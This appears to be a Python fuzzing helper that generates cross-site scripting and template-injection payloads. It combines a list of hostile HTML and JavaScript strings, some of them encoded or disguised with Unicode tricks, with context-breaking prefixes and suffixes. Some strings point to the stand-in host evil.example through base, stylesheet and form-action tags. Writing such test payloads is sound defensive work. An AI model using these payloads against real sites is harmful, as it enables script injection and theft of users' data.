"""Strings that break out of what they are put into, wherever nobody took care."""

import itertools
import random

HOSTILE = [
    "<script>hit()</script>",
    "<img src=x onerror=hit()>",
    "<svg onload=hit()>",
    "<svg><script href=data:,hit()></script>",
    "<a href=javascript:hit()>x</a>",
    "<iframe srcdoc='<script>parent.hit()</script>'></iframe>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:hit()'>",
    "<style>@import '//evil.example/x.css';</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<form action=//evil.example/><button formaction=javascript:hit()>x</button>",
    "<input autofocus onfocus=hit()>",
    "<details open ontoggle=hit()>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=hit()>",
    "<div hx-get=/sign-out hx-trigger=load hx-on:htmx:load=hit()>",
    "<div data-hx-post=/sign-out data-hx-trigger=load data-hx-vals='js:{x:hit()}'>",
    "<template><script>hit()</script></template>",
    "<object data=javascript:hit()>",
    "<body onload=hit()>",
    "<noscript><p title='</noscript><img src=x onerror=hit()>'>",
    "javascript:hit()//",
    "x onmouseover=hit() y=",
    "{{ 7*7 }}{% raw %}${7*7}<%= 7*7 %>",
    "&lt;img src=x onerror=hit()&gt;",
    "\\u003cimg src=x onerror=hit()\\u003e",
    "%3Cimg%20src=x%20onerror=hit()%3E",
    "＜script＞hit()＜/script＞",
    "\u202e<script>hit()</script>\u202c\u2066",
    "\ufeff\u200b<img src=x onerror=hit()>\u2028",
    "ى\u064b\u0651<svg onload=hit()>水",
]
BEFORE = [
    "",
    '"',
    "'",
    '">',
    "'>",
    "</textarea>",
    "</title>",
    "</option></select>",
    "</script>",
    "-->",
    "]]>",
    "`",
    "\\'",
    "</p></div></main>",
]
AFTER = ["", "<!--", '"', "//"]


def payloads(chance: random.Random):
    """Without end; each three parts, the plain ones first."""
    yield from HOSTILE
    every = [*itertools.product(BEFORE, HOSTILE, AFTER)]
    while True:
        chance.shuffle(every)
        yield from map("".join, every)
